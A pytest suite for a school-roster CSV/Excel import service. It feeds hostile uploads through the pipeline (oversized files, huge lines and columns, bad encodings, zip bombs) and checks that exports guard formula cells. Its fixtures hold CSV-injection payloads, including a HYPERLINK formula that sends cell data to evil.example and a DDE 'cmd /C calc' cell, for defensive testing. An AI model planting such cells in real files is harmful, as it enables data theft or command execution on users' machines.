"""Hostile files (issue 9): files built to break the import, each driven the
way production runs it (presigned POST or S3 drop -> S3's notification ->
SQS -> the import handler, then the API). Every one ends in a clear
``failed`` with a reason, or in row errors that account for every row; the
service keeps serving (a normal import afterwards commits); big files are
read in bounded memory (measured in the handler's own process, with S3 and
DynamoDB in a moto server so their storage does not count); and what a
hostile cell holds is stored as text but never served to a spreadsheet as a
formula.
"""
import base64
import csv
import io
import itertools
import json
import os
import subprocess
import sys
import time
import zipfile

import boto3
import pytest

from chalicelib.core import config, csv_export
from chalicelib.core import queue
from chalicelib.imports import profile, sniff, store, validating
from chalicelib.imports.models import ImportRow
from chalicelib.roster.validation import clean_upn
from tests.imports.conftest import Importer, drain
from tests.imports.test_workbooks import excel_like

SUITE = "hostile files"
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
MB = 1024 * 1024
HEADER = "First name,Surname,Date of birth,Gender,Year group,Registration group,UPN\n"


@pytest.fixture
def importer(app, api, admin):
    """Imports the way production runs them (tests/imports/conftest.py)."""
    from devstack.pump import Pump
    queue.reset_clients()
    return Importer(api, Pump(app, seconds_per_minute=1, print_mail=False))


def upn(n):
    """A valid UPN (LA 940): the check letter is whatever the roster's own
    validator asks for."""
    body = f"94012342{n:04d}"[:12]
    for letter in "ABCDEFGHJKLMNPQRTUVWXYZ":
        if clean_upn(letter + body)[1] is None:
            return letter + body
    raise AssertionError(body)


def rows_csv(rows, header=HEADER):
    return (header + "".join(",".join(r) + "\n" for r in rows)).encode("utf-8")


def good_rows(n, name="Good"):
    return [(f"{name}{i}", "Pupil", "01/02/2015", "F", "5", "5A", "") for i in range(n)]


def still_serving(api, importer, tag):
    """The service is up and imports normally after the hostile file."""
    assert api.get("/api/health").status_code == 200
    before = len(api.all_pages("/api/pupils"))
    imp = importer.full("pupils", rows_csv(good_rows(3, name=f"After{tag}")), filename="after.csv")
    assert imp["status"] == "committed" and imp["result"]["created"] == 3, imp
    assert len(api.all_pages("/api/pupils")) == before + 3




def put_object(key, body):
    boto3.client("s3", region_name=config.region()).put_object(Bucket=config.bucket_name(), Key=key, Body=body)


def read_csv(resp):
    assert resp.status_code == 200, resp.body
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"].startswith("attachment; filename=")
    assert resp.body.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads the accents
    return list(csv.reader(io.StringIO(resp.body.decode("utf-8-sig"), newline="")))


def accounted_for(importer, imp):
    """valid + refused = rows, and the refused ones are all listed."""
    s = imp["summary"]
    refused = importer.rows(imp)
    assert s["valid"] + s["errors"] == s["rows"] == imp["rows_total"]
    assert len(refused) == s["errors"]
    return refused


# ------------------------------------------------------------ the size cap

def test_presigned_post_policy_caps_the_size(api, importer, admin):
    """S3 enforces the POST policy (moto does not): the policy must hold the
    cap, for this key only, and expire."""
    r = api.post("/api/imports", {"kind": "pupils", "filename": "huge.csv"})
    assert r.status_code == 201
    fields = r.data["upload"]["fields"]
    policy = json.loads(base64.b64decode(fields["policy"]))
    assert ["content-length-range", 1, config.UPLOAD_MAX_BYTES] in policy["conditions"]
    assert {"key": fields["key"]} in policy["conditions"] and {"bucket": config.bucket_name()} in policy["conditions"]
    assert r.data["max_bytes"] == config.UPLOAD_MAX_BYTES == 20 * MB
    assert "expiration" in policy


@pytest.mark.parametrize("route", ["presigned POST", "S3 drop"])
def test_an_object_over_the_cap_fails_unread(api, importer, admin, aws_calls, route):
    """What S3's policy would stop, the handler refuses too, without reading
    it: moto takes an over-cap POST, and a drop has no policy at all."""
    body = rows_csv(good_rows(2)) + b"x" * (config.UPLOAD_MAX_BYTES + 1)
    if route == "presigned POST":
        imp = importer.upload("pupils", body, filename="huge.csv")
    else:
        key = f"drop/{admin['school_id']}/pupils/huge.csv"
        put_object(key, body)
        drain(importer.pump)
        (imp,) = api.get("/api/imports").data["items"]
    assert imp["status"] == "failed"
    assert imp["error"]["code"] == "file_too_large" and "20 MB" in imp["error"]["message"]
    assert not [p for op, p in aws_calls if op == "GetObject"], "the handler read an over-cap file"
    assert api.get("/api/pupils").data["items"] == []
    still_serving(api, importer, "Cap")


# ------------------------------------------------------------ long lines, wide rows

def test_a_10mb_file_with_no_line_break_fails(api, importer):
    imp = importer.upload("pupils", b"Zoe,Smith," * (MB + 1), filename="one-line.csv")
    assert imp["status"] == "failed" and imp["error"]["code"] == "not_csv"
    assert "line break" in imp["error"]["message"]
    still_serving(api, importer, "Line")


def long_line_file(line_bytes=10 * MB):
    return (rows_csv(good_rows(3)) + b"Big," + b"x" * line_bytes + b",01/02/2015,F,5,5A,\n" +
            rows_csv(good_rows(2, name="Late"), header=""))


def test_a_10mb_line_inside_a_file_is_one_refused_row(api, importer):
    imp = importer.upload("pupils", long_line_file(), filename="long-line.csv")
    assert imp["status"] == "mapping" and imp["rows_total"] == 6
    imp = importer.map(imp)
    (bad,) = accounted_for(importer, imp)
    assert bad["row"] == 5 and bad["errors"][0]["code"] == "unreadable_row"
    imp = importer.commit(imp)
    assert imp["result"]["created"] == 5
    assert {p["first_name"] for p in api.all_pages("/api/pupils")} == {"Good0", "Good1", "Good2", "Late0", "Late1"}
    still_serving(api, importer, "Long")


def wide_header(n, long=False):
    name = "A rather long column name (number {:05d}) of a very wide sheet" if long else "c{}"
    return ",".join(name.format(i) for i in range(n))


@pytest.mark.parametrize("long_names", [False, True], ids=["short names", "long names"])
def test_10000_columns_fail_with_a_reason(api, importer, long_names):
    """Long names made the import's record over DynamoDB's 400 KB: the
    handler crashed on every delivery and the import sat in 'sniffing'."""
    body = (HEADER.strip() + "," + wide_header(10_000 - 7, long_names) + "\n" +
            "Ann,Lee,01/02/2015,F,5,5A," + ",v" * (10_000 - 7) + "\n").encode()
    imp = importer.upload("pupils", body, filename="wide.csv")
    assert imp["status"] == "failed", imp["status"]
    assert imp["error"]["code"] == "too_many_columns" and "10,000 columns" in imp["error"]["message"]
    still_serving(api, importer, "Wide")


def test_the_widest_file_allowed_imports(api, importer):
    """As wide as allowed, every name and sample in 4-byte characters: the
    import's record still fits in one DynamoDB item."""
    extra = validating.MAX_COLUMNS - 7
    names = ["\U0001F600" * 15 + f"{i:03d}" for i in range(extra)]
    assert len(json.dumps(HEADER.strip().split(",") + names)) <= validating.MAX_HEADER_JSON
    body = (HEADER.strip() + "," + ",".join(names) + "\n" + "".join(
        ",".join(r) + "," + ",".join("\U0001F600" * 60 for _ in range(extra)) + "\n"
        for r in good_rows(5))).encode()
    imp = importer.upload("pupils", body, filename="wide.csv")
    assert imp["status"] == "mapping", imp["error"]
    assert [c["name"] for c in imp["columns"]][7:] == names
    assert len(json.dumps([s for c in imp["columns"] for s in c["samples"]])) <= profile.SAMPLES_JSON + 800
    imp = importer.commit(importer.map(imp))
    assert imp["result"]["created"] == 5


def test_a_1mb_cell_in_a_mapped_column_is_a_row_error(api, importer):
    """The refused row's values went into DynamoDB whole: over 400 KB, the
    handler crashed on every delivery and the import sat in 'validating'."""
    body = rows_csv(good_rows(2)) + b"Ann," + b"y" * (sniff.FIELD_SIZE_LIMIT - 10) + b",01/02/2015,F,5,5A,\n"
    imp = importer.map(importer.upload("pupils", body, filename="fat-cell.csv"))
    assert imp["status"] == "review", imp["status"]
    (bad,) = accounted_for(importer, imp)
    assert bad["row"] == 4 and bad["errors"][0]["code"] == "too_long"
    assert bad["values"]["surname"].startswith("yyy") and len(bad["values"]["surname"]) <= 1000
    assert importer.commit(imp)["result"]["created"] == 2
    still_serving(api, importer, "Fat")


# ------------------------------------------------------------ bytes that are not text

def padded(rows_before, tail_rows):
    """A file whose rows after the first MB hold ``tail_rows``: sniffing sees
    only a clean first MB (an unmapped Notes column fills it)."""
    header = HEADER.strip() + ",Notes\n"
    pad = "n" * 100_000
    first = "".join(",".join(r) + "," + pad + "\n" for r in rows_before)
    return header.encode() + first.encode() + tail_rows


def test_nul_bytes_at_the_start_fail_as_binary(api, importer):
    body = rows_csv(good_rows(3)).replace(b"Good1", b"Go\x00d1")
    imp = importer.upload("pupils", body, filename="nul.csv")
    assert imp["status"] == "failed" and imp["error"]["code"] == "binary_file"
    assert "not text" in imp["error"]["message"]
    still_serving(api, importer, "Nul")


def test_a_nul_byte_past_the_sniffed_start_refuses_its_row(api, importer):
    """Past the sample nothing refuses the file: the row with a NUL was
    imported with the NUL in the pupil's name."""
    body = padded(good_rows(12), b"Nu\x00ll,Lee,01/02/2015,F,5,5A,,\n" + b"Fine,Lee,01/02/2015,F,5,5A,,\n")
    assert len(body) > sniff.SAMPLE_BYTES
    imp = importer.map(importer.upload("pupils", body, filename="late-nul.csv"))
    (bad,) = accounted_for(importer, imp)
    assert bad["row"] == 14 and bad["errors"][0] == {"field": "first_name", "code": "invalid_characters",
                                                    "message": bad["errors"][0]["message"]}
    assert importer.commit(imp)["result"]["created"] == 13
    assert not any("\x00" in p["first_name"] for p in api.all_pages("/api/pupils"))
    still_serving(api, importer, "LateNul")


ACCENTED = [("Zoë", "Brontë", "01/02/2015", "F", "5", "5A", ""), ("Siân", "Llŷr", "02/02/2015", "F", "5", "5A", ""),
            ("Dáithí", "Ó Briain", "03/02/2015", "M", "5", "5A", "")]


def test_utf8_with_a_damaged_byte_keeps_its_accents(api, importer):
    """Before: one bad byte made the whole file Windows-1252, so every accent
    became mojibake (Zoë -> ZoÃ«) and the bad row was imported as 'Annÿ'."""
    body = rows_csv(ACCENTED) + b"Ann\xff,Lee,01/02/2015,F,5,5A,\n"
    imp = importer.map(importer.upload("pupils", body, filename="damaged.csv"))
    (bad,) = accounted_for(importer, imp)
    assert bad["row"] == 5 and bad["errors"][0]["code"] == "invalid_characters"
    importer.commit(imp)
    assert {(p["first_name"], p["surname"]) for p in api.all_pages("/api/pupils")} == {r[:2] for r in ACCENTED}
    still_serving(api, importer, "Damaged")


def test_invalid_utf8_past_the_sniffed_start_refuses_its_row(api, importer):
    body = padded(ACCENTED * 4, b"Ann\xc3\x28,Lee,01/02/2015,F,5,5A,,\n")
    imp = importer.map(importer.upload("pupils", body, filename="late-bad.csv"))
    (bad,) = accounted_for(importer, imp)
    assert bad["row"] == 14 and bad["errors"][0]["code"] == "invalid_characters"
    assert imp["summary"]["valid"] == 12
    still_serving(api, importer, "LateBad")


def test_windows_1252_reads_as_such_and_its_undefined_bytes_refuse_their_row(api, importer):
    """No UTF-8 in sight: Windows-1252 (Excel on UK Windows), where 0xFF is ÿ
    and 0x81 means nothing."""
    body = (HEADER + "Zoë,Brontë,01/02/2015,F,5,5A,\nAnnÿ,Lee,01/02/2015,F,5,5A,\n").encode("cp1252") + \
        b"Ann\x81,Lee,01/02/2015,F,5,5A,\n"
    imp = importer.map(importer.upload("pupils", body, filename="cp1252.csv"))
    (bad,) = accounted_for(importer, imp)
    assert bad["row"] == 4 and bad["errors"][0]["code"] == "invalid_characters"
    importer.commit(imp)
    assert {p["first_name"] for p in api.all_pages("/api/pupils")} == {"Zoë", "Annÿ"}
    still_serving(api, importer, "Cp1252")


def xlsx():
    """A damaged Excel workbook: its zip has Excel's parts, but no sheet calamine can find."""
    out = io.BytesIO()
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                               'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook><sheets><sheet name="Pupils" sheetId="1"/></sheets>'
                           '</workbook>',
        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c t="inlineStr">'
                                    '<is><t>First name</t></is></c></row></sheetData></worksheet>',
    }
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text)
    return out.getvalue()


def plain_zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("pupils.csv", HEADER + "Ann,Lee,01/02/2015,F,5,5A,\n")
    return out.getvalue()


@pytest.mark.parametrize("kind, body, says", [
    ("xlsx", xlsx(), "could not read this workbook"),
    ("xls", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096), "could not read this workbook"),
    ("zip", plain_zip(), "no users.csv"),  # a zip that is not a workbook is read as a roster bundle
], ids=["xlsx", "xls", "zip"])
def test_a_damaged_workbook_or_a_zip_renamed_csv_fails_with_what_to_do(api, importer, kind, body, says):
    imp = importer.upload("pupils", body, filename="pupils.csv")
    code = "bundle_unreadable" if kind == "zip" else "spreadsheet_file"
    assert imp["status"] == "failed" and imp["error"]["code"] == code
    assert says in imp["error"]["message"] and "CSV" in imp["error"]["message"]
    still_serving(api, importer, kind.capitalize())


# ------------------------------------------------------------ formulas

FORMULAS = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")", "Smith", "5A"),
    ("Eilidh", "@SUM(A1:A9)", "+44 7700"),
    ("Maja", "-2+3", "-5"),
    ("=1+2", "+Cmd", "@x"),
    ("Tab", "Lead", "\t=1+2"),
    ("Cr", "Lead", "\r=1+2"),
]


def formula_file():
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\r\n")  # so a cell holding a CR is quoted
    w.writerow(HEADER.strip().split(","))
    for i, (first, surname, reg) in enumerate(FORMULAS):
        w.writerow([first, surname, f"0{i + 1}/02/2015", "F", "5", reg, upn(i + 1)])
    return out.getvalue().encode()


def test_formula_cells_are_stored_as_text_and_exported_guarded(api, importer):
    imp = importer.full("pupils", formula_file(), filename="formulas.csv")
    assert imp["result"]["created"] == len(FORMULAS), imp
    stored = {(p["first_name"], p["surname"], p["registration_group"]) for p in api.all_pages("/api/pupils")}
    # as given (the validators trim spaces, tabs and line breaks around a value)
    assert stored == {(f.strip(), s.strip(), r.strip()) for f, s, r in FORMULAS}
    exported = read_csv(api.get("/api/pupils/export"))
    assert exported[0] == ["First name", "Surname", "Date of birth", "Gender", "Year group",
                           "Registration group", "UPN", "Pupil ID", "External ID"]
    cells = [c for row in exported[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], "a live formula"
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")" in cells and "'-5" in cells
    assert {tuple(csv_export.unguard(c) for c in (r[0], r[1], r[5])) for r in exported[1:]} == stored
    # and an export re-imports as it is: every row matched, nothing changed
    again = importer.full("pupils", exported_bytes(api, "pupils"), filename="export.csv")
    assert again["summary"]["unchanged"] == len(FORMULAS) and again["result"]["created"] == 0, again["summary"]


def exported_bytes(api, kind):
    return api.get(f"/api/{kind}/export").body


def test_staff_export_guards_and_reimports(api, importer, admin):
    body = ("First name,Surname,Email,Job role,User group\n"
            "=cmd|' /C calc'!A0,Teacher,tess@example.org,@Head of year,Teachers\n"
            "Tom,-Assistant,tom@example.org,+TA,TAs\n").encode()
    assert importer.full("staff", body)["result"]["created"] == 2
    exported = read_csv(api.get("/api/staff/export"))
    assert exported[0] == ["First name", "Surname", "Email", "Job role", "User group", "External ID"]
    assert {r[2] for r in exported[1:]} == {admin["email"], "tess@example.org", "tom@example.org"}
    cells = [c for row in exported[1:] for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@Head of year" in cells and "'-Assistant" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    again = importer.full("staff", api.get("/api/staff/export").body, filename="export.csv")
    assert again["summary"]["unchanged"] == 3, again["summary"]


def test_refused_rows_download_as_guarded_csv(api, importer, signup):
    body = formula_file() + b'"=HYPERLINK(""http://x"")",Bad,31/02/2015,F,5,-1,\n\x81bad,Row,01/02/2015,F,5,5A,\n'
    imp = importer.map(importer.upload("pupils", body, filename="bad.csv"))
    assert len(accounted_for(importer, imp)) == 2
    r = api.get(f"/api/imports/{imp['id']}/errors.csv")
    rows = read_csv(r)
    assert rows[0] == ["Row", "First name", "Surname", "Date of birth", "Gender", "Year group",
                       "Registration group", "UPN", "Problems"]
    assert [row[0] for row in rows[1:]] == ["9", "10"]  # lines: the quoted CR in row 7 is a line break
    assert rows[1][1] == "'=HYPERLINK(\"http://x\")" and rows[1][6] == "'-1"
    assert rows[1][-1].startswith("Date of birth: ") and "31/02/2015" in rows[1][-1]
    assert "could not read" in rows[2][-1]
    # fixed in the spreadsheet, the file imports (the guard comes off)
    fixed = r.body.replace(b"31/02/2015", b"28/02/2015").replace(b"\xef\xbf\xbdbad", b"Good")
    again = importer.map(importer.upload("pupils", fixed, filename="fixed.csv"))
    assert again["summary"]["errors"] == 0 and again["summary"]["create"] == 2, importer.rows(again)
    assert importer.commit(again)["result"]["created"] == 2
    assert "=HYPERLINK(\"http://x\")" in {p["first_name"] for p in api.all_pages("/api/pupils")}
    # another school sees none of it
    other = signup(name="Other School")
    assert api.get(f"/api/imports/{imp['id']}/errors.csv", token=other["token"]).data["code"] == "not_found"


def test_exports_need_view_roster(api, admin, member):
    governor = member(admin, user_group="Governors")
    teacher = member(admin, user_group="Teachers")
    for kind in ("pupils", "staff"):
        assert api.get(f"/api/{kind}/export", token=governor["token"]).data["code"] == "permission_denied"
        assert api.get(f"/api/{kind}/export", token=teacher["token"]).status_code == 200
    spec = api.get("/api/openapi.json").data["paths"]
    for path in ("/api/pupils/export", "/api/staff/export", "/api/imports/{import_id}/errors.csv"):
        assert "text/csv" in json.dumps(spec[path]["get"]["responses"]["200"]), path


@pytest.mark.parametrize("cell, out", [
    ("=1+2", "'=1+2"), ("+44", "'+44"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Zoë", "Zoë"), ("", ""), (None, ""), (5, "5"), (-5, "'-5"), ("a=b", "a=b"),
    ("'=1", "''=1"),
])
def test_guard(cell, out):
    assert csv_export.guard(cell) == out
    if isinstance(cell, str) and cell[:1] != "'":
        assert csv_export.unguard(csv_export.guard(cell)) == cell


# ------------------------------------------------------------ one UPN, many rows

def same_upn_file(rows):
    one = upn(7)
    return HEADER.encode() + b"".join(
        f"Child{i},Same,01/02/2015,F,5,5A,{one}\n".encode() for i in range(rows))


def check_same_upn(api, importer, rows):
    imp = importer.upload("pupils", same_upn_file(rows), filename="same-upn.csv")
    assert imp["rows_total"] == rows
    imp = importer.map(imp)
    assert imp["summary"] == {"rows": rows, "valid": 1, "errors": rows - 1, "create": 1, "update": 0,
                              "unchanged": 0, "restore": 0}
    key = store.import_key(api.get("/api/me").data["school"]["id"], imp["id"])
    refused = list(ImportRow.query(key))
    assert len(refused) == rows - 1 and {int(r.row) for r in refused} == set(range(3, rows + 2))
    assert {e["code"] for r in refused for e in r.errors} == {"duplicate_upn"}
    assert all("row 2" in r.errors[0]["message"] for r in refused)
    imp = importer.commit(imp)
    assert imp["result"]["created"] == 1, imp["result"]
    (pupil,) = api.all_pages("/api/pupils")
    assert pupil["first_name"] == "Child0" and pupil["upn"] == upn(7)
    listed = read_csv(api.get(f"/api/imports/{imp['id']}/errors.csv"))
    assert len(listed) - 1 == min(rows - 1, 10_000)
    still_serving(api, importer, "Upn")


def test_2000_rows_of_one_upn(api, importer):
    check_same_upn(api, importer, 2000)


@pytest.mark.heavy
def test_100000_rows_of_one_upn(api, importer):
    check_same_upn(api, importer, 100_000)


# ------------------------------------------------------------ bounded memory

SETUP = r"""
import sys, time
import boto3
from chalicelib.core import config
from chalicelib.imports.models import Import
from devstack.bootstrap import create_resources
path, import_id = sys.argv[1], sys.argv[2]
create_resources()
key = f"uploads/mem-school/{import_id}.csv"
with open(path, "rb") as f:
    boto3.client("s3", region_name=config.region()).put_object(Bucket=config.bucket_name(), Key=key, Body=f)
Import(school_id="mem-school", import_id=import_id, kind="pupils", filename="p.csv", s3_key=key,
       status="sniffing", created_by="mem", created_at=int(time.time()), updated_at=int(time.time())).save()
"""

HANDLER = r"""
import json, sys, tracemalloc
from chalicelib.imports import storage, store, validating
from chalicelib.imports.models import Import
imp = Import.get("mem-school", sys.argv[1])
storage.s3()  # clients and their service models load before measuring
tracemalloc.start()
if validating.sniff_file(imp):
    store.update_import(imp, status="validating", mapping=imp.suggested_mapping, run=1)
    imp.status, imp.mapping, imp.run = "validating", imp.suggested_mapping, 1
    validating.validate_file(imp)
peak = tracemalloc.get_traced_memory()[1]
tracemalloc.stop()
imp.refresh()
print(json.dumps({"peak": peak, "status": imp.status, "error": imp.error, "summary": imp.summary}))
"""

#: Python allocations of the import handler while it sniffs and validates
#: one file, at most. A hostile file's long line or cell is never held
#: whole (a 10 MB line read whole would cost over 50 MB: csv keeps a cell in
#: 4 bytes a character). A file of valid rows costs what remembering its
#: UPNs and line numbers takes (for in-file duplicates): about 120 bytes a
#: row, so the 20 MB cap bounds it.
HOSTILE_PEAK = 32 * MB
VALID_PEAK = 150 * MB

@pytest.fixture(scope="module")
def moto_server():
    from devstack.__main__ import moto_server as running
    with running({"STAGE": "hostile", "POWERTOOLS_LOG_LEVEL": "ERROR"}) as env:
        yield env


def handler_memory(env, body, tmp_path, name):
    path = tmp_path / f"{name}.csv"
    path.write_bytes(body)
    subprocess.run([sys.executable, "-c", SETUP, str(path), name], cwd=ROOT, env=env, check=True,
                   capture_output=True, text=True)
    out = subprocess.run([sys.executable, "-c", HANDLER, name], cwd=ROOT, env=env, capture_output=True, text=True,
                         check=False)
    assert out.returncode == 0, out.stderr[-3000:]
    return json.loads(out.stdout.strip().splitlines()[-1])


def file_at_the_cap():
    from tests.data.make_corpus import big_pupils_csv
    body = big_pupils_csv(400_000)
    return body[:body.rfind(b"\n", 0, config.UPLOAD_MAX_BYTES - 1) + 1]


#: name: (the file, the status the handler leaves, its peak at most)
BIG = {
    "10 MB, no line break": (lambda: b"Zoe,Smith," * (MB + 1), "failed", HOSTILE_PEAK),
    "a 10 MB line in a file": (long_line_file, "review", HOSTILE_PEAK),
    "3 MB lines, 6 of them": (lambda: rows_csv(good_rows(2)) + (b"x" * (3 * MB) + b",\n") * 6, "review",
                              HOSTILE_PEAK),
    "a 1 MB cell per row, 19 rows": (lambda: rows_csv(good_rows(2)) + (
        b"Ann," + b"y" * (sniff.FIELD_SIZE_LIMIT - 10) + b",01/02/2015,F,5,5A,\n") * 19, "review", HOSTILE_PEAK),
    "100,000 rows of one UPN": (lambda: same_upn_file(100_000), "review", HOSTILE_PEAK),
    "20 MB of valid rows": (file_at_the_cap, "review", VALID_PEAK),
}


@pytest.mark.heavy
@pytest.mark.parametrize("name", list(BIG))
def test_the_handler_reads_big_hostile_files_in_bounded_memory(moto_server, tmp_path, name):
    make, status, limit = BIG[name]
    body = make()
    assert len(body) >= 4 * MB
    t = time.time()
    result = handler_memory(moto_server, body, tmp_path, "mem" + "".join(c for c in name if c.isalnum()))
    assert result["status"] == status, result
    if status == "review":
        s = result["summary"]
        assert s["valid"] + s["errors"] == s["rows"] > 0
    print(f"\n{name}: {len(body) / MB:.1f} MB, {result['summary'] and result['summary']['rows']} rows, peak "
          f"{result['peak'] / MB:.1f} MiB traced, {time.time() - t:.1f} s")
    assert result["peak"] < limit, f"{result['peak'] / MB:.1f} MiB"


# -- workbooks (issue 18) ------------------------------------------------------

def test_a_zip_of_10000_empty_parts_or_a_nested_zip_is_refused_and_the_service_serves(api, importer):
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        for i in range(10_000):
            z.writestr(f"xl/empty{i}.xml", "")
    imp = importer.upload("pupils", many.getvalue(), filename="many.xlsx")
    assert imp["status"] == "failed" and imp["error"]["code"] == "spreadsheet_file" and "10,001 files" in imp["error"]["message"]
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w") as z:
        z.writestr("inner.zip", plain_zip())
    imp = importer.upload("pupils", nested.getvalue(), filename="nested.zip")
    assert imp["status"] == "failed" and imp["error"]["code"] == "bundle_unreadable"  # (a zip in it is never opened)
    still_serving(api, importer, "Zips")


@pytest.mark.heavy
def test_an_xlsx_of_1048576_rows_is_read_within_bounds(api, importer):
    """Excel's last row: the sheet is counted (as a CSV's rows are) and the
    import waits at mapping; the service still serves."""
    rows = itertools.chain([["First name", "Surname", "Date of birth", "Year group"]],
                           ([f"P{i % 1000}", "Row", "01/02/2015", i % 11 + 1] for i in range(1_048_575)))
    imp = importer.upload("pupils", excel_like(rows, constant_memory=True), filename="huge.xlsx")
    assert imp["status"] in ("mapping", "failed"), imp
    if imp["status"] == "mapping":
        assert imp["rows_total"] == 1_048_575
    else:  # over the caps: refused saying so
        assert imp["error"]["code"] in ("spreadsheet_file", "file_too_large"), imp
    still_serving(api, importer, "Huge")
